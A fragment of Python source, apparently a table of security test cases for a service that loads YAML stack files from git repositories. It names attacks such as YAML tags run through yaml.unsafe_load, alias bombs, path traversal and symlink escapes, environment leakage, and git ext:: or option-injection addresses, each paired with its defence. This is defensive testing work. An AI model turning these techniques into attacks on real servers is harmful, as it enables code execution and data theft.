    Content(
        "yaml_tag",
        "a tag of YAML that calls a function",
        "tags are not known",
        "yaml.unsafe_load",
        lambda g: stack_file(g, tag(g), "config"),
        yaml_tag_run,
        "stack.yml:1",
    ),
    Content(
        "yaml_bomb",
        "aliases that make 10^9 words of a few bytes",
        "a bound of what aliases make",
        "loaded and counted",
        yaml_bomb,
        yaml_bomb_counted,
    ),
    Content(
        "repository_link",
        "a file of a repository is a link out",
        "read in a jail that holds the commit alone",
        "cloned and opened",
        repository_link,
        repository_link_followed,
        "cannot be read",
    ),
    Content(
        "repository_path",
        "a stack file names ../../…/file",
        "read in a jail that holds the commit alone",
        "cloned and opened",
        repository_path,
        repository_path_followed,
        "cannot be read",
    ),
    Content(
        "repository_environment",
        "a stack file asks for the server's environment",
        "an environment of its own",
        "read by the command line, which has it",
        repository_environment,
        environment_interpolated,
    ),
    Content(
        "repository_program",
        "ext::, an address that names a program",
        "addresses are checked; protocol.allow",
        "protocol.ext.allow=always",
        repository_program,
        repository_program_run,
    ),
    Content(
        "repository_option",
        "an address that is an option of git's",
        "addresses are checked",
        "given to git as it is",
        repository_option,
        repository_option_taken,
    ),
)
